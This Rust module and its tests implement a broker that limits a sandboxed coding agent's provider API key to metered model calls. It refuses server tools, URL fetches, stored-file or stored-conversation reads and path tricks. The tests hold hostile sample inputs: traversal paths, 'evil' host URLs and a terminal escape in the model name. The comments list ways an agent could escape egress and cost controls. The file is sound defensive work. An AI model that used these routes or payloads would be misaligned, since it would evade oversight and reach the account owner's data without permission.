//! What the broker forwards: the model calls OpenCode makes, and nothing else the real key could
//! do. Pure, unit-tested.
//!
//! *Why a list of calls*: the key opens the whole account at the provider (files, batches,
//! fine-tuning, admin endpoints), and the agent can send requests to the broker itself (it can
//! read OpenCode's placeholder). Forwarding only the model calls keeps the key's power in the
//! sandbox at "ask the model", which is what OpenCode needs and what the cap meters.

use serde_json::Value;

/// One forwardable call.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Call {
    /// Generates tokens: checked against the cap and metered.
    Generate,
    /// Costs nothing (model lists, token counting).
    Free,
}

/// The calls, by method and path below the provider's base URL.
const CALLS: &[(&str, &str, Call)] = &[
    ("POST", "chat/completions", Call::Generate),
    ("POST", "completions", Call::Generate),
    ("POST", "responses", Call::Generate),
    ("POST", "messages", Call::Generate),
    ("POST", "embeddings", Call::Generate),
    ("POST", "messages/count_tokens", Call::Free),
    ("GET", "models", Call::Free),
];

/// Split `/<provider>/<rest>` (the broker's own path) into the provider id and the rest.
pub fn split(path: &str) -> Option<(&str, &str)> {
    let (id, rest) = path.strip_prefix('/')?.split_once('/')?;
    Some((id, rest))
}

/// Whether `method rest` is a call the broker forwards. `rest` is the raw path below the base
/// URL: every segment must be plain (no `..`, no percent-escapes), so the path the provider sees
/// is the one judged here.
pub fn call(method: &str, rest: &str) -> Result<Call, String> {
    let plain = |seg: &str| {
        !seg.is_empty()
            && seg != "."
            && seg != ".."
            && seg.chars().all(|c| c.is_ascii_alphanumeric() || "._:-".contains(c))
    };
    if !rest.split('/').all(plain) {
        return Err(format!("`{rest}` is not a plain API path"));
    }
    if let Some((_, _, c)) = CALLS.iter().find(|(m, p, _)| *m == method && *p == rest) {
        return Ok(*c);
    }
    // `GET models/<id>`: one model's description.
    if method == "GET" && rest.strip_prefix("models/").is_some_and(|m| !m.contains('/')) {
        return Ok(Call::Free);
    }
    Err(format!("{method} {rest} is not a model call"))
}

/// A model call's body as the broker forwards it.
#[derive(Debug, Default, PartialEq)]
pub struct Body {
    /// The body as the broker parsed and judged it, serialized again: the provider reads what
    /// was judged (a duplicate key, which parsers settle differently, is gone).
    pub bytes: Vec<u8>,
    pub model: String,
    /// The most output tokens the call may produce (what it asked for, times the choices it
    /// asked for, or a high default): what the broker reserves against the cap while it runs.
    pub max_output: u64,
}

/// Output tokens reserved for a call that names no maximum.
const DEFAULT_MAX_OUTPUT: u64 = 128_000;

/// Tool types the client runs itself (OpenCode's tools, Anthropic's client tools). Any other
/// type is a server tool: it runs at the provider (web search and fetch, code execution, MCP,
/// file search), reaching addresses the egress rules never judge and costing fees that are not
/// in the token usage.
fn client_tool(t: &Value) -> bool {
    match t.get("type").and_then(Value::as_str) {
        None => true,
        Some(ty) => {
            matches!(ty, "function" | "custom")
                || ["bash_", "text_editor_", "computer_"].iter().any(|p| ty.starts_with(p))
        }
    }
}

/// Fields that make the provider do what the broker cannot meter or the rules cannot judge.
const REFUSED_FIELDS: &[(&str, &str)] = &[
    ("mcp_servers", "makes the provider connect to MCP servers, around the egress rules"),
    ("web_search_options", "makes the provider search the web, around the egress rules"),
    ("background", "runs the call in the background, where its usage never reaches the broker"),
    ("conversation", "reads conversations stored in the account"),
    ("previous_response_id", "reads a response stored in the account"),
    ("container", "reuses a code-execution container or loads skills stored in the account"),
    ("preset", "applies a preset stored in the account (its prompt, models and tools)"),
    ("models", "lets the provider fall back to other models, at their prices"),
    ("plugins", "turns on the provider's paid plugins"),
    ("modalities", "asks for audio or other output priced apart from the model's text prices"),
    ("audio", "asks for audio output, priced apart from the model's text prices"),
];

/// Input items a server tool produces. Passed back, each names by id a result the provider
/// stored for a call the broker never forwards (server tools are refused), or answers a stored
/// request (`mcp_approval_response` names one by `approval_request_id`).
const SERVER_TOOL_ITEMS: &[&str] = &[
    "file_search_call",
    "web_search_call",
    "code_interpreter_call",
    "image_generation_call",
    "mcp_call",
    "mcp_list_tools",
    "mcp_approval_request",
    "mcp_approval_response",
    "tool_search_call",
    "tool_search_output",
];

/// A part or item that makes the provider read, by id, what is stored in the user's account:
/// an item or a reasoning of an earlier response, an uploaded file, an earlier audio reply.
/// *Why*: the key opens everything the account holds, from every project and every tool that
/// used it; read into the model's context, it is the agent's to read. The agent in the sandbox
/// can learn such ids (an error message, a log, a file) but must not make the broker resolve
/// them. What OpenCode sends carries its content inline (it asks for `store: false`).
fn stored_part(o: &serde_json::Map<String, Value>) -> Option<String> {
    let set = |k: &str| o.get(k).is_some_and(|v| !v.is_null());
    let ty = o.get("type").and_then(Value::as_str);
    let what = match ty {
        Some("item_reference") => "an `item_reference` reads an item stored in the account".into(),
        // With its `encrypted_content`, a reasoning item carries itself; by id alone, the
        // provider looks the stored one up.
        Some("reasoning") if set("id") && !set("encrypted_content") => {
            "a `reasoning` item by `id` without its `encrypted_content` reads a reasoning stored in the account"
                .into()
        }
        Some(t @ ("image" | "document"))
            if o.get("source").and_then(|s| s.get("type")).and_then(Value::as_str) == Some("file") =>
        {
            format!("a `{t}` from a stored file (`source.type: file`) reads a file stored in the account")
        }
        Some(t) if SERVER_TOOL_ITEMS.contains(&t) => {
            format!("a `{t}` item names a server tool's result stored at the provider")
        }
        // `input_file`, `input_image`, `computer_screenshot`, `container_upload`, Anthropic's
        // `source: {type: file}`: anything typed that names a `file_id`. (A tool call's own
        // arguments are untyped objects and pass.)
        Some(t) if set("file_id") => format!("a `{t}` by `file_id` reads a file stored in the account"),
        Some("file") if o.get("file").is_some_and(|f| f.get("file_id").is_some_and(|v| !v.is_null())) => {
            "a `file` part by `file_id` reads a file stored in the account".into()
        }
        _ if o.get("audio").is_some_and(|a| a.get("id").is_some_and(|v| !v.is_null())) => {
            "an `audio` by `id` reads an earlier audio reply stored at the provider".into()
        }
        _ => return None,
    };
    Some(what)
}

/// A content part that makes the provider fetch something from a URL (an image, a document, a
/// file). The fetch is a request to an address of the caller's choosing that the egress rules
/// never judge, and its content is input the broker cannot see. Inline data (`data:` URLs,
/// base64 sources) is what OpenCode sends.
fn fetching_part(o: &serde_json::Map<String, Value>) -> Option<String> {
    let remote = |v: &Value| match v {
        Value::String(s) => !s.starts_with("data:"),
        Value::Object(m) => m.get("url").and_then(Value::as_str).is_some_and(|s| !s.starts_with("data:")),
        _ => false,
    };
    let has = |k: &str| o.get(k).is_some_and(|v| !v.is_null());
    let what = match o.get("type").and_then(Value::as_str).unwrap_or_default() {
        ty @ ("image" | "document")
            if o.get("source")
                .and_then(|s| s.get("type"))
                .and_then(Value::as_str)
                .is_some_and(|t| t != "base64" && t != "text" && t != "content") =>
        {
            format!("a `{ty}` from a URL")
        }
        "image_url" if o.get("image_url").is_some_and(remote) => {
            "an `image_url` that is not a data: URL".into()
        }
        ty @ ("input_image" | "computer_screenshot") if o.get("image_url").is_some_and(remote) => {
            format!("an `{ty}` by URL")
        }
        "input_file" if has("file_url") => "an `input_file` by URL".into(),
        // `file_data` is a data: URL or bare base64 (which has no `:`); anything else is a URL
        // the provider fetches.
        "file"
            if o.get("file")
                .and_then(|f| f.get("file_data"))
                .and_then(Value::as_str)
                .is_some_and(|d| d.contains(':') && !d.starts_with("data:")) =>
        {
            "a `file` whose `file_data` is a URL".into()
        }
        _ => return None,
    };
    Some(format!("{what} makes the provider fetch it, around the egress rules"))
}

/// The first part anywhere in the messages or input that reads stored state or fetches.
fn find_part(v: &Value) -> Option<String> {
    match v {
        Value::Object(o) => {
            stored_part(o).or_else(|| fetching_part(o)).or_else(|| o.values().find_map(find_part))
        }
        Value::Array(a) => a.iter().find_map(find_part),
        _ => None,
    }
}

/// An integer field, if present; `Err` when it is present but not a whole number.
fn count(v: &Value, key: &str) -> Result<Option<u64>, String> {
    match &v[key] {
        Value::Null => Ok(None),
        n => n.as_u64().map(Some).ok_or_else(|| format!("`{key}` must be a whole number")),
    }
}

/// Check a model call's body and prepare it. A streamed chat completion without
/// `stream_options.include_usage` would end without a usage report (OpenAI reports it only when
/// asked), and an unmetered reply would let the agent spend around the cap: the broker asks
/// for it.
pub fn prepare(rest: &str, body: &[u8]) -> Result<Body, String> {
    let mut v: Value = serde_json::from_slice(body).map_err(|_| "the body is not JSON".to_string())?;
    if !v.is_object() {
        return Err("the body is not a JSON object".into());
    }
    let model = v["model"].as_str().unwrap_or_default().to_string();
    let plain = |c: char| c.is_ascii_alphanumeric() || "._:/@+-".contains(c);
    if model.is_empty() || model.len() > 200 || !model.chars().all(plain) {
        return Err("`model` must name a model (letters, digits and ._:/@+-, at most 200)".into());
    }
    if model.ends_with(":online") {
        return Err("`:online` turns on the provider's web search, around the egress rules".into());
    }
    if model.contains("@preset") {
        return Err(
            "`@preset/…` applies a preset stored in the account (its prompt, models and tools)".into()
        );
    }
    // A reusable prompt stored in the account, by id. (A text `prompt` is the legacy
    // completions' input.)
    if v["prompt"].is_object() {
        return Err("`prompt` runs a prompt stored in the account".into());
    }
    for (field, why) in REFUSED_FIELDS {
        let set = match &v[*field] {
            Value::Null => false,
            Value::Bool(b) => *b,
            _ => true,
        };
        if set {
            return Err(format!("`{field}` {why}"));
        }
    }
    if let Some(tier) = v["service_tier"].as_str().filter(|t| !matches!(*t, "auto" | "default")) {
        return Err(format!("`service_tier: {tier}` is priced apart from the model's prices"));
    }
    if let Some(t) = v["tools"].as_array().and_then(|ts| ts.iter().find(|t| !client_tool(t))) {
        return Err(format!(
            "the server tool `{}` runs at the provider, outside the sandbox's rules",
            t["type"]
        ));
    }
    for key in ["messages", "input", "system", "instructions"] {
        if let Some(why) = find_part(&v[key]) {
            return Err(why);
        }
    }
    let mut max_output = 0;
    for key in ["max_tokens", "max_completion_tokens", "max_output_tokens"] {
        max_output = max_output.max(count(&v, key)?.unwrap_or(0));
    }
    let thinking = count(&v["thinking"], "budget_tokens")?.unwrap_or(0);
    let reasoning = count(&v["reasoning"], "max_tokens")?.unwrap_or(0);
    if max_output == 0 {
        max_output = DEFAULT_MAX_OUTPUT;
    }
    let choices = count(&v, "n")?.unwrap_or(1).max(count(&v, "best_of")?.unwrap_or(1)).max(1);
    let max_output = max_output.saturating_add(thinking.max(reasoning)).saturating_mul(choices);
    let streamed_chat =
        matches!(rest, "chat/completions" | "completions") && v["stream"] == Value::Bool(true);
    if streamed_chat && v["stream_options"]["include_usage"] != Value::Bool(true) {
        if !v["stream_options"].is_object() {
            v["stream_options"] = Value::Object(serde_json::Map::new());
        }
        v["stream_options"]["include_usage"] = Value::Bool(true);
    }
    let bytes = serde_json::to_vec(&v).map_err(|e| format!("the body cannot be written again: {e}"))?;
    Ok(Body { bytes, model, max_output })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_model_calls_pass() {
        assert_eq!(split("/anthropic/messages"), Some(("anthropic", "messages")));
        assert_eq!(split("/anthropic"), None);
        assert_eq!(call("POST", "chat/completions"), Ok(Call::Generate));
        assert_eq!(call("POST", "messages"), Ok(Call::Generate));
        assert_eq!(call("POST", "messages/count_tokens"), Ok(Call::Free));
        assert_eq!(call("GET", "models"), Ok(Call::Free));
        assert_eq!(call("GET", "models/gpt-5.1"), Ok(Call::Free));
        for (m, p) in [
            ("POST", "files"),
            ("GET", "organization/api_keys"),
            ("DELETE", "models/ft:x"),
            ("GET", "chat/completions"),
            ("POST", "chat/../files"),
            ("POST", "chat/%2e%2e/files"),
            ("POST", "chat//completions"),
            ("GET", "models/a/b"),
        ] {
            assert!(call(m, p).is_err(), "{m} {p}");
        }
    }

    #[test]
    fn streamed_chat_asks_for_usage() {
        let b = prepare("chat/completions", br#"{"model":"m1","stream":true,"messages":[]}"#).unwrap();
        let v: Value = serde_json::from_slice(&b.bytes).unwrap();
        assert_eq!(v["stream_options"]["include_usage"], true);
        assert_eq!((b.model.as_str(), b.max_output), ("m1", DEFAULT_MAX_OUTPUT));
        let b = prepare(
            "chat/completions",
            br#"{"model":"m1","stream":true,"stream_options":{"include_usage":false},"max_completion_tokens":9}"#,
        )
        .unwrap();
        assert_eq!(
            serde_json::from_slice::<Value>(&b.bytes).unwrap()["stream_options"]["include_usage"],
            true
        );
        assert_eq!(b.max_output, 9);
        let b = prepare("messages", br#"{"model":"claude","stream":true,"max_tokens":100}"#).unwrap();
        assert!(serde_json::from_slice::<Value>(&b.bytes).unwrap().get("stream_options").is_none());
        assert_eq!(b.max_output, 100, "Anthropic always reports usage");
        // What is reserved: the largest maximum, thinking on top, times the choices.
        let b = prepare(
            "messages",
            br#"{"model":"c","max_tokens":1,"max_completion_tokens":500,"thinking":{"budget_tokens":100},"n":3}"#,
        )
        .unwrap();
        assert_eq!(b.max_output, 1800);
        for bad in [
            r#"{"model":"c","max_tokens":"64000"}"#,
            r#"{"model":"c","max_tokens":64000.0}"#,
            r#"{"model":"c","n":2.5}"#,
        ] {
            assert!(prepare("messages", bad.as_bytes()).unwrap_err().contains("whole number"), "{bad}");
        }
        // Duplicate keys: the provider gets the one that was judged.
        let b = prepare("messages", br#"{"model":"cheap","model":"dear"}"#).unwrap();
        assert_eq!(
            (b.model.as_str(), String::from_utf8(b.bytes).unwrap()),
            ("dear", r#"{"model":"dear"}"#.to_string())
        );
    }

    #[test]
    fn calls_the_broker_cannot_meter_or_the_rules_cannot_judge_are_refused() {
        let ok = [
            r#"{"model":"claude-sonnet-4-5","tools":[{"name":"bash","input_schema":{}},{"type":"bash_20250124","name":"bash"}]}"#,
            // Inline images, and a tool call whose input names a URL (the client fetches it).
            r#"{"model":"c","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","data":"AA=="}}]},
                {"role":"assistant","content":[{"type":"tool_use","name":"webfetch","input":{"url":"https://example.com/"}}]}]}"#,
            r#"{"model":"g","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AA=="}}]}]}"#,
            r#"{"model":"gpt-5","tools":[{"type":"function","name":"x"}],"service_tier":"auto"}"#,
            r#"{"model":"anthropic/claude-sonnet-4.5","background":false}"#,
        ];
        for b in ok {
            assert!(prepare("responses", b.as_bytes()).is_ok(), "{b}");
        }
        for (b, why) in [
            ("not json", "not JSON"),
            ("[1]", "not a JSON object"),
            (r#"{"messages":[]}"#, "`model`"),
            ("{\"model\":\"m\\u001b]52;c;x\"}", "`model`"),
            (r#"{"model":"gpt-5","background":true}"#, "background"),
            (r#"{"model":"c","mcp_servers":[{"url":"https://evil/"}]}"#, "MCP"),
            (
                r#"{"model":"gpt-5","tools":[{"type":"mcp","server_url":"https://evil/"}]}"#,
                "server tool `\"mcp\"`",
            ),
            (r#"{"model":"c","tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}"#, "server tool"),
            (r#"{"model":"gpt-5","tools":[{"type":"web_search"}]}"#, "server tool"),
            (r#"{"model":"a/b","models":["x/y"]}"#, "fall back"),
            (r#"{"model":"a/b","plugins":[{"id":"web"}]}"#, "plugins"),
            (r#"{"model":"gpt-5","service_tier":"priority"}"#, "priced apart"),
            (r#"{"model":"gpt-5","conversation":"conv_1"}"#, "conversations"),
            (r#"{"model":"gpt-5","previous_response_id":"resp_1"}"#, "stored"),
            (r#"{"model":"gpt-5","web_search_options":{}}"#, "search the web"),
            (r#"{"model":"gpt-4o-audio","modalities":["text","audio"]}"#, "audio"),
            (r#"{"model":"openai/gpt-5:online"}"#, ":online"),
            (
                r#"{"model":"c","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil/?d=x"}}]}]}"#,
                "fetch",
            ),
            (
                r#"{"model":"c","messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"f"}}]}]}"#,
                "stored",
            ),
            (
                r#"{"model":"g","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil/x.png"}}]}]}"#,
                "fetch",
            ),
            (
                r#"{"model":"g","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil/a.pdf"}]}]}"#,
                "fetch",
            ),
            (
                r#"{"model":"g","input":[{"role":"user","content":[{"type":"input_image","file_id":"file-1"}]}]}"#,
                "stored",
            ),
        ] {
            let e = prepare("responses", b.as_bytes()).unwrap_err();
            assert!(e.contains(why), "{b}: {e}");
        }
    }

    /// What each API's ordinary calls look like, as OpenCode sends them: they pass. Ids that
    /// only label what the body carries inline (an assistant message's `msg_…`, a function
    /// call's `fc_…`, a reasoning with its `encrypted_content`), `store`, `metadata`, `include`
    /// and a tool argument named `file_id` read nothing stored.
    #[test]
    fn ordinary_calls_of_each_api_pass() {
        for (rest, b) in [
            // OpenAI Responses, the way OpenCode sends it (`store: false`).
            (
                "responses",
                r#"{"model":"gpt-5","store":false,"include":["reasoning.encrypted_content"],"instructions":"be brief",
                    "input":[{"role":"user","content":[{"type":"input_text","text":"hi"},
                        {"type":"input_image","image_url":"data:image/png;base64,AA=="},
                        {"type":"input_file","filename":"a.pdf","file_data":"data:application/pdf;base64,AA=="}]},
                    {"type":"reasoning","id":"rs_1","encrypted_content":"gAAAA","summary":[{"type":"summary_text","text":"t"}]},
                    {"type":"reasoning","summary":[]},
                    {"role":"assistant","id":"msg_1","content":[{"type":"output_text","text":"ok"}]},
                    {"type":"function_call","id":"fc_1","call_id":"c1","name":"read","arguments":"{\"file_id\":\"x\"}"},
                    {"type":"function_call_output","call_id":"c1","output":"done"}],
                    "tools":[{"type":"function","name":"read","parameters":{"type":"object","properties":{"file_id":{"type":"string"}}}}],
                    "reasoning":{"effort":"medium","summary":"auto"},"prompt_cache_key":"ses_1","metadata":{"a":"b"}}"#,
            ),
            // OpenAI Chat Completions.
            (
                "chat/completions",
                r#"{"model":"gpt-4.1","store":true,"metadata":{"a":"b"},"messages":[{"role":"system","content":"s"},
                    {"role":"user","content":[{"type":"text","text":"hi"},{"type":"image_url","image_url":{"url":"data:image/png;base64,AA=="}},
                        {"type":"file","file":{"filename":"a.pdf","file_data":"data:application/pdf;base64,AA=="}},
                        {"type":"file","file":{"filename":"b.pdf","file_data":"JVBERi0xLjQK+/=="}}]},
                    {"role":"assistant","content":null,"tool_calls":[{"id":"call_1","type":"function","function":{"name":"read","arguments":"{}"}}]},
                    {"role":"tool","tool_call_id":"call_1","content":"done"}]}"#,
            ),
            // Legacy completions: a text `prompt` is the input, not a stored prompt.
            ("completions", r#"{"model":"gpt-3.5-turbo-instruct","prompt":"Say hi","max_tokens":5}"#),
            // Anthropic Messages: inline sources, a tool call whose input names a `file_id`.
            (
                "messages",
                r#"{"model":"claude-sonnet-4-5","max_tokens":100,"system":[{"type":"text","text":"s","cache_control":{"type":"ephemeral"}}],
                    "messages":[{"role":"user","content":[{"type":"document","source":{"type":"base64","media_type":"application/pdf","data":"AA=="}},
                        {"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="}}]},
                    {"role":"assistant","content":[{"type":"thinking","thinking":"t","signature":"sig"},
                        {"type":"tool_use","id":"toolu_1","name":"read","input":{"file_id":"f"}}]},
                    {"role":"user","content":[{"type":"tool_result","tool_use_id":"toolu_1","content":"done"}]}]}"#,
            ),
            // OpenRouter's chat completions with its own fields.
            (
                "chat/completions",
                r#"{"model":"anthropic/claude-sonnet-4.5","usage":{"include":true},"provider":{"sort":"price"},
                    "reasoning":{"effort":"high"},"messages":[{"role":"user","content":"hi"}]}"#,
            ),
        ] {
            assert!(prepare(rest, b.as_bytes()).is_ok(), "{rest}: {b}: {:?}", prepare(rest, b.as_bytes()));
        }
    }

    /// Every form that makes the provider read, by id, what the user's account stores (in any
    /// of the three APIs) is refused, wherever in the body it is.
    #[test]
    fn calls_that_read_what_the_account_stores_are_refused() {
        for (rest, b, why) in [
            // OpenAI Responses.
            (
                "responses",
                r#"{"model":"gpt-5","input":[{"type":"item_reference","id":"msg_1"}]}"#,
                "`item_reference`",
            ),
            (
                "responses",
                r#"{"model":"gpt-5","input":[{"role":"user","content":[{"type":"input_text","text":"hi"},{"type":"item_reference","id":"msg_1"}]}]}"#,
                "`item_reference`",
            ),
            (
                "responses",
                r#"{"model":"gpt-5","instructions":[{"type":"item_reference","id":"msg_1"}]}"#,
                "`item_reference`",
            ),
            (
                "responses",
                r#"{"model":"gpt-5","input":[{"type":"reasoning","id":"rs_1","summary":[]}]}"#,
                "`reasoning`",
            ),
            (
                "responses",
                r#"{"model":"gpt-5","input":[{"type":"reasoning","id":"rs_1","encrypted_content":null,"summary":[]}]}"#,
                "`reasoning`",
            ),
            ("responses", r#"{"model":"gpt-5","previous_response_id":"resp_1"}"#, "response stored"),
            ("responses", r#"{"model":"gpt-5","conversation":{"id":"conv_1"}}"#, "conversations stored"),
            ("responses", r#"{"model":"gpt-5","prompt":{"id":"pmpt_1","version":"2"}}"#, "prompt stored"),
            (
                "responses",
                r#"{"model":"gpt-5","input":[{"role":"user","content":[{"type":"input_file","file_id":"file-1"}]}]}"#,
                "`input_file` by `file_id`",
            ),
            (
                "responses",
                r#"{"model":"gpt-5","input":[{"type":"computer_call_output","call_id":"c","output":{"type":"computer_screenshot","file_id":"file-1"}}]}"#,
                "`computer_screenshot` by `file_id`",
            ),
            (
                "responses",
                r#"{"model":"gpt-5","input":[{"type":"mcp_approval_response","approval_request_id":"mcpr_1","approve":true}]}"#,
                "`mcp_approval_response`",
            ),
            (
                "responses",
                r#"{"model":"gpt-5","input":[{"type":"file_search_call","id":"fs_1","queries":[],"status":"completed"}]}"#,
                "`file_search_call`",
            ),
            (
                "responses",
                r#"{"model":"gpt-5","input":[{"type":"code_interpreter_call","id":"ci_1","container_id":"cntr_1"}]}"#,
                "`code_interpreter_call`",
            ),
            (
                "responses",
                r#"{"model":"gpt-5","input":[{"type":"image_generation_call","id":"ig_1","status":"completed"}]}"#,
                "`image_generation_call`",
            ),
            (
                "responses",
                r#"{"model":"gpt-5","tools":[{"type":"file_search","vector_store_ids":["vs_1"]}]}"#,
                "server tool",
            ),
            (
                "responses",
                r#"{"model":"gpt-5","tools":[{"type":"code_interpreter","container":"cntr_1"}]}"#,
                "server tool",
            ),
            (
                "responses",
                r#"{"model":"gpt-5","tools":[{"type":"mcp","server_label":"g","connector_id":"connector_gmail"}]}"#,
                "server tool",
            ),
            // OpenAI Chat Completions.
            (
                "chat/completions",
                r#"{"model":"gpt-4o","messages":[{"role":"user","content":[{"type":"file","file":{"file_id":"file-1"}}]}]}"#,
                "`file` part by `file_id`",
            ),
            (
                "chat/completions",
                r#"{"model":"gpt-4o-audio-preview","messages":[{"role":"assistant","audio":{"id":"audio_1"}}]}"#,
                "earlier audio reply",
            ),
            // Anthropic Messages.
            (
                "messages",
                r#"{"model":"c","messages":[{"role":"user","content":[{"type":"image","source":{"type":"file","file_id":"file_1"}}]}]}"#,
                "`image` from a stored file",
            ),
            (
                "messages",
                r#"{"model":"c","messages":[{"role":"user","content":[{"type":"container_upload","file_id":"file_1"}]}]}"#,
                "`container_upload` by `file_id`",
            ),
            ("messages", r#"{"model":"c","container":"container_1"}"#, "`container`"),
            (
                "messages",
                r#"{"model":"c","container":{"skills":[{"type":"custom","skill_id":"skill_1","version":"latest"}]}}"#,
                "skills stored",
            ),
            // OpenRouter.
            ("chat/completions", r#"{"model":"@preset/mine","messages":[]}"#, "preset stored"),
            ("chat/completions", r#"{"model":"openai/gpt-4o@preset/mine","messages":[]}"#, "preset stored"),
            (
                "chat/completions",
                r#"{"model":"openai/gpt-4o","preset":"mine","messages":[]}"#,
                "preset stored",
            ),
        ] {
            let e = prepare(rest, b.as_bytes()).unwrap_err();
            assert!(e.contains(why), "{b}: {e}");
            // Token counting reads the same body.
            assert!(prepare("messages/count_tokens", b.as_bytes()).is_err(), "{b}");
        }
        // A fetch by URL is still named as such.
        let e = prepare(
            "chat/completions",
            br#"{"model":"a/b","messages":[{"role":"user","content":[{"type":"file","file":{"filename":"a.pdf","file_data":"https://evil/a.pdf"}}]}]}"#,
        )
        .unwrap_err();
        assert!(e.contains("fetch"), "{e}");
    }
}
